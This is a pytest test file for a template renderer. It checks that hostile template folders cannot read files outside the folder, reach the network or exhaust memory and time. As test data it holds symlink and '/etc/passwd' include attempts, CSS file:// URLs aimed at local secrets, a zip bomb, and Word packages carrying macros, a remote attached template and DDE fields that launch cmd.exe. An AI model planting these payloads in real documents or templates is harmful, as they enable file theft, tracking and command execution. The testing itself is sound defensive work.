"""A template folder is untrusted: no file outside it, no network, bounded time and memory.

Each hostile folder below tries one vector for real (links, CSS, URLs, Word packages); the
secret it reaches for is a real file outside the folder and never appears in any output.
"""

from __future__ import annotations

import http.server
import io
import re
import shutil
import threading
import zipfile
from pathlib import Path
from typing import ClassVar

import pytest

from ccmkit.data.states import load_registry
from ccmkit.errors import TemplateError
from ccmkit.package import render_document
from ccmkit.render import limits
from ccmkit.resources import templates_dir
from tests.conftest import make_subject, run_cli
from tests.readers import pdf_text_bytes

pytestmark = pytest.mark.e2e  # real files, processes or HTTP: the outer loop

SECRET = "TOP-SECRET-MARKER-4711"
BODY = "{% extends 'base.html.j2' %}{% block body %}<h1>T</h1>BODY{% endblock %}"
PAGE = ("<!DOCTYPE html><html lang='en'><head><title>t</title><style>CSS</style></head>"
        "<body><h1>T</h1><p>x</p></body></html>")


@pytest.fixture
def outside(tmp_path) -> Path:
    """A folder beside the template folder, holding secrets."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_text(SECRET, encoding="utf-8")
    (folder / "secret.css").write_text(f"/* {SECRET} */ p {{ color: red }}", encoding="utf-8")
    (folder / "en.html.j2").write_text(BODY.replace("BODY", SECRET), encoding="utf-8")
    shutil.copy(templates_dir() / "base.docx", folder / "base.docx")
    return folder


def folder_with(tmp_path, files: dict[str, str], links: dict[str, Path] | None = None) -> Path:
    folder = tmp_path / "t"
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    for name, target in (links or {}).items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).symlink_to(target)
    folder.mkdir(exist_ok=True)
    return folder


def render(registry, folder: Path, formats=("docx", "pdf")):
    files = render_document(make_subject(registry, "KEN", template_dir=folder), "instrument",
                            "en", formats)
    for f in files:
        assert SECRET.encode() not in f.data
    return files


class Spy(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        Spy.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/css")
        self.end_headers()
        self.wfile.write(b"p { color: red }")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def web_server():
    server = http.server.HTTPServer(("127.0.0.1", 0), Spy)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    Spy.hits.clear()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def test_symlinked_include_is_refused(registry, tmp_path, outside) -> None:
    folder = folder_with(tmp_path, {"instrument/en.html.j2": BODY.replace(
        "BODY", "<p>{% include 'secret.txt' %}</p>")}, {"secret.txt": outside / "secret.txt"})
    with pytest.raises(TemplateError, match=r"secret\.txt .*outside the template folder"):
        render(registry, folder)


def test_symlinked_template_and_folder_are_refused(registry, tmp_path, outside) -> None:
    folder = folder_with(tmp_path, {}, {"instrument/en.html.j2": outside / "en.html.j2"})
    with pytest.raises(TemplateError, match="outside the template folder"):
        render(registry, folder)
    shutil.rmtree(folder)
    folder = folder_with(tmp_path, {}, {"instrument": outside})
    with pytest.raises(TemplateError, match="outside the template folder"):
        render(registry, folder)


@pytest.mark.parametrize("name", ["../outside/secret.txt", "/etc/passwd"])
def test_include_by_path_stays_inside(registry, tmp_path, outside, name) -> None:
    folder = folder_with(tmp_path, {"instrument/en.html.j2": BODY.replace(
        "BODY", f"<p>{{% include '{name}' %}}</p>")})
    with pytest.raises(TemplateError, match="not found in the template folders"):
        render(registry, folder)


CSS_VECTORS = [
    ("font file", "@font-face { font-family: X; src: url('file://SECRET/secret.txt') } "
                  "p { font-family: X }"),
    ("background image", "p { background: url('file://SECRET/secret.txt') }"),
    ("imported style sheet", "@import url('file://SECRET/secret.css');"),
    ("svg data URL fetching a file", "p { background: url(\"data:image/svg+xml,"
     "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
     "<image xlink:href='file://SECRET/secret.txt' width='9' height='9'/></svg>\") }"),
    ("html data URL", "p { background: url('data:text/html,<p>x</p>') }"),
]


@pytest.mark.parametrize(("case", "css"), CSS_VECTORS, ids=[c[0] for c in CSS_VECTORS])
def test_css_cannot_embed_a_local_file(registry, tmp_path, outside, case, css) -> None:
    css = css.replace("SECRET", str(outside))
    folder = folder_with(tmp_path, {"instrument/en.html.j2": PAGE.replace("CSS", css)})
    with pytest.raises(TemplateError, match="templates may only use files inside"):
        render(registry, folder, ("pdf",))


def test_link_and_attachment_elements_are_refused(registry, tmp_path, outside) -> None:
    page = PAGE.replace("<style>CSS</style>", f"<link rel='attachment' href='file://{outside}"
                        "/secret.txt'>")
    folder = folder_with(tmp_path, {"instrument/en.html.j2": page})
    with pytest.raises(TemplateError, match="<link> inside <head>"):
        render(registry, folder, ("pdf",))


def test_no_network(registry, tmp_path, web_server) -> None:
    for n, css in enumerate([f"@import url('{web_server}/a.css');",
                             f"p {{ background: url('{web_server}/b.png') }}"]):
        folder = folder_with(tmp_path / str(n), {"instrument/en.html.j2": PAGE.replace("CSS",
                                                                                       css)})
        with pytest.raises(TemplateError, match="no network"):
            render(registry, folder, ("pdf",))
    assert Spy.hits == []


def test_user_style_sheet_is_confined(registry, tmp_path, outside) -> None:
    folder = folder_with(tmp_path, {"style.css": f"@import url('file://{outside}/secret.css');",
                                    "instrument/en.html.j2": BODY.replace("BODY", "<p>x</p>")})
    with pytest.raises(TemplateError, match=r"style\.css: refers to"):
        render(registry, folder, ("pdf",))
    (folder / "style.css").unlink()
    (folder / "style.css").symlink_to(outside / "secret.css")
    with pytest.raises(TemplateError, match=r"style\.css leads outside"):
        render(registry, folder, ("pdf",))


def test_a_style_sheet_may_use_its_own_folder(registry, tmp_path) -> None:
    """The user's sheet and the sheet it imports from its folder both reach the PDF (each
    adds generated text that pdftotext reads back)."""
    folder = folder_with(tmp_path, {
        "style.css": "@import url('fonts.css'); h1::before { content: 'OWNSHEET ' }",
        "fonts.css": "h1::after { content: ' IMPORTEDSHEET' }"})
    (pdf,) = render(registry, folder, ("pdf",))
    assert "OWNSHEET" in pdf_text_bytes(pdf.data) and "IMPORTEDSHEET" in pdf_text_bytes(pdf.data)


def test_base_docx_link_out_is_refused(registry, tmp_path, outside) -> None:
    folder = folder_with(tmp_path, {}, {"base.docx": outside / "base.docx"})
    with pytest.raises(TemplateError, match=r"base\.docx leads outside"):
        render(registry, folder, ("docx",))


def test_hostile_folder_through_the_cli(tmp_path, outside) -> None:
    folder = folder_with(tmp_path, {}, {"instrument/en.html.j2": outside / "en.html.j2"})
    result = run_cli("package", "KEN", "--lang", "en", "--template-dir", str(folder), "--out",
                     str(tmp_path / "out"))
    assert result.exit_code == 6
    assert result.output.startswith("Error: ") and result.output.count("\n") == 1
    assert SECRET not in result.output and not (tmp_path / "out" / "KEN").exists()


# ------------------------------------------------------------------ bounded rendering

def test_endless_loop_is_stopped(registry, tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(limits.LIMITS, "seconds", 1.0)
    folder = folder_with(tmp_path, {"instrument/en.html.j2": BODY.replace(
        "BODY", "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}"
                "{% endfor %}")})
    with pytest.raises(TemplateError, match="took longer than 1 s"):
        render(registry, folder, ("docx",))


def test_memory_hog_is_stopped(registry, tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(limits.LIMITS, "memory", 300 << 20)
    folder = folder_with(tmp_path, {"instrument/en.html.j2": BODY.replace(
        "BODY", "{% set ns = namespace(hoard=[]) %}{% for i in range(100000) %}"
                "{% set ns.hoard = ns.hoard + ['x' * 99999] %}{% endfor %}")})
    with pytest.raises(TemplateError, match="needed more than 300 MiB"):
        render(registry, folder, ("docx",))
    big = bytearray(400 << 20)  # the limit is lifted again afterwards
    assert len(big) == 400 << 20


@pytest.mark.parametrize(("body", "words"), [
    ("{{ 'x' * 1000000000 }}", "repetition longer than"),
    ("{{ 9 ** 9999999 }}", "exponent above 64"),
    ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "recursion too deep"),
    # E6: an expression that fails is one line naming the template and its line
    ("{{ 1/0 }}", r"en.html.j2, line 1\): template expression failed \(ZeroDivisionError"),
    ("{{ state.iso3|int + 'x' }}", r"template expression failed \(TypeError"),
    ("{% for i in range(10**9) %}{% endfor %}", r"template expression failed \(OverflowError"),
    # S7: the data a template is given is read-only
    ("{% set y = state.names.update({'en': state.names['fr']}) %}", "change the data"),
])
def test_sandbox_bounds(registry, tmp_path, body, words) -> None:
    folder = folder_with(tmp_path, {"instrument/en.html.j2": BODY.replace("BODY", body)})
    with pytest.raises(TemplateError, match=words):
        render(registry, folder, ("docx",))


def test_a_template_cannot_change_what_later_documents_read(tmp_path) -> None:
    """S7: a template that tries to rename the State fails alone; the run's other documents
    keep the State's name."""
    body = "{% set y = state.names.update({'en': state.names['fr']}) %}"
    folder = folder_with(tmp_path, {"instrument/en.html.j2": BODY.replace("BODY", body)})
    result = run_cli("package", "KEN", "--doc", "instrument", "--doc", "steps", "--lang", "en",
                     "--format", "docx", "--template-dir", str(folder),
                     "--out", str(tmp_path / "out"))
    assert result.exit_code != 0 and "change the data it was given" in result.output
    assert "Traceback" not in result.output
    from ccmkit.package import render_document as render_one

    registry = load_registry()
    steps = render_one(make_subject(registry, "KEN", template_dir=folder), "steps", "en",
                       ("docx",))[0]
    assert b"le Kenya" not in steps.data


# ------------------------------------------------------------------ base.docx checked first

def base_docx(target: Path, extra: dict[str, bytes] | None = None,
              replace: dict[str, bytes] | None = None, compress: bool = True) -> Path:
    with zipfile.ZipFile(templates_dir() / "base.docx") as src, zipfile.ZipFile(
            target, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as dst:
        for item in src.infolist():
            dst.writestr(item.filename, (replace or {}).get(item.filename,
                                                            src.read(item.filename)))
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    return target


def _content_types() -> str:
    with zipfile.ZipFile(templates_dir() / "base.docx") as src:
        return src.read("[Content_Types].xml").decode()


def _rels() -> str:
    with zipfile.ZipFile(templates_dir() / "base.docx") as src:
        return src.read("word/_rels/document.xml.rels").decode()


MACRO_TYPES = _content_types().replace("</Types>", (
    '<Override PartName="/word/vbaProject.bin" '
    'ContentType="application/vnd.ms-office.vbaProject"/></Types>'))
EXTERNAL = _rels().replace("</Relationships>", (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" '
    'TargetMode="External"/></Relationships>'))
BAD_BASES = [
    ("not a zip", lambda p: p.write_bytes(b"PK\x03\x04 not really"), "not a readable .docx"),
    ("too large", lambda p: p.write_bytes(b"\0" * (11 << 20)), "larger than 10 MiB"),
    ("zip bomb", lambda p: base_docx(p, {"word/media/pad.bin": b"\0" * (70 << 20)}),
     "more than 64 MiB once unpacked"),
    ("compressed too well", lambda p: base_docx(p, {"word/media/pad.bin": b"\0" * (8 << 20)}),
     "compressed suspiciously well"),
    ("macros", lambda p: base_docx(p, {"word/vbaProject.bin": b"x"},
                                   {"[Content_Types].xml": MACRO_TYPES.encode()}),
     "vbaProject' is not allowed"),
    ("remote template", lambda p: base_docx(p, replace={
        "word/_rels/document.xml.rels": EXTERNAL.encode()}), "links to an outside resource"),
    ("path out of the package", lambda p: base_docx(p, {"../evil.xml": b"<x/>"}),
     "leads outside the package"),
]


@pytest.mark.parametrize(("case", "make", "words"), BAD_BASES, ids=[c[0] for c in BAD_BASES])
def test_bad_base_docx_is_refused_before_unpacking(registry, tmp_path, case, make,
                                                    words) -> None:
    folder = folder_with(tmp_path, {})
    make(folder / "base.docx")
    with pytest.raises(TemplateError, match=words):
        render(registry, folder, ("docx",))


def _part(name: str) -> str:
    with zipfile.ZipFile(templates_dir() / "base.docx") as src:
        return src.read(name).decode()


def _in_header(xml: str) -> dict[str, bytes]:
    """header1.xml with `xml` added as its last paragraph."""
    return {"word/header1.xml": _part("word/header1.xml").replace("</w:hdr>", xml + "</w:hdr>")
            .encode()}


def _complex_field(*pieces: str) -> str:
    """A complex field whose instruction is split over runs, as Word writes it."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>'
                   for p in pieces)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _with_rel(rels_part: str, kind: str, target: str, external: bool = False) -> dict:
    mode = ' TargetMode="External"' if external else ""
    text = (_part(rels_part) if rels_part.startswith("word/_rels/document") else
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="'
            'http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    return {rels_part: text.replace("</Relationships>", (
        f'<Relationship Id="rId77" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}"{mode}/></Relationships>')).encode()}


CHUNK_TYPES = _content_types().replace("</Types>", (
    '<Override PartName="/word/chunk.docx" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'))
FIELD_BASES = [
    ("INCLUDEPICTURE", lambda p: base_docx(p, replace=_in_header(
        '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://127.0.0.1:18999/track.png" \\d \'>'
        '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')),
     "word/header1.xml has a field INCLUDEPICTURE"),
    ("INCLUDETEXT", lambda p: base_docx(p, replace=_in_header(_complex_field(
        " INCLUDE", 'TEXT "\\\\127.0.0.1\\share\\x.docx" '))),
     "word/header1.xml has a field INCLUDETEXT"),
    ("DDE", lambda p: base_docx(p, replace={"word/document.xml": _part(
        "word/document.xml").replace("</w:body>", _complex_field(
            'DDE c:\\windows\\system32\\cmd.exe "/k calc.exe"') + "</w:body>").encode()}),
     "word/document.xml has a field DDE "),
    ("DDEAUTO", lambda p: base_docx(p, replace={"word/footer1.xml": _part(
        "word/footer1.xml").replace("</w:ftr>", _complex_field(
            "dde", 'auto c:\\windows\\system32\\cmd.exe "/k calc.exe"') + "</w:ftr>")
        .encode()}),
     "word/footer1.xml has a field DDEAUTO"),
    ("external image", lambda p: base_docx(p, _with_rel(
        "word/_rels/header1.xml.rels", "image", "http://127.0.0.1:18999/pixel.png", True)),
     "word/_rels/header1.xml.rels links to an outside resource \\(image"),
    ("attached template", lambda p: base_docx(p, _with_rel(
        "word/_rels/settings.xml.rels", "attachedTemplate", "Normal.dotm")),
     "'attachedTemplate' \\(an attached template"),
    ("altChunk", lambda p: base_docx(p, {"word/chunk.docx": b"PK"}, {
        **_with_rel("word/_rels/document.xml.rels", "aFChunk", "chunk.docx"),
        "[Content_Types].xml": CHUNK_TYPES.encode()}),
     "'aFChunk' \\(an altChunk"),
    ("macros without a content type", lambda p: base_docx(p, {"word/vbaProject.bin": b"x"}),
     "it carries macros \\(vbaProject\\)"),
]


@pytest.mark.parametrize(("case", "make", "words"), FIELD_BASES, ids=[c[0] for c in FIELD_BASES])
def test_a_base_docx_reaching_outside_is_refused(tmp_path, case, make, words) -> None:
    """F2: fields and relationships that fetch, include or run something are refused by name,
    through the command line, and no document is written."""
    folder = folder_with(tmp_path, {})
    make(folder / "base.docx")
    result = run_cli("package", "USA", "--doc", "cover_note", "--lang", "en", "--format", "docx",
                     "--template-dir", str(folder), "--out", str(tmp_path / "out"))
    assert result.exit_code != 0
    assert re.search(words, result.output), result.output
    assert len(result.output.strip().splitlines()) == 1 and "Traceback" not in result.output
    assert not list((tmp_path / "out").rglob("*.docx"))


def test_a_plain_user_base_docx_is_used(registry, tmp_path) -> None:
    """The user's base.docx gives the styles: its body font reaches the document."""
    with zipfile.ZipFile(templates_dir() / "base.docx") as shipped:
        styles = shipped.read("word/styles.xml").decode()
    assert "Courier New" not in styles
    folder = folder_with(tmp_path, {})
    base_docx(folder / "base.docx",
              replace={"word/styles.xml": styles.replace("Times New Roman", "Courier New")
                       .encode()})
    (docx,) = render(registry, folder, ("docx",))
    with zipfile.ZipFile(io.BytesIO(docx.data)) as written:
        assert "Courier New" in written.read("word/styles.xml").decode()
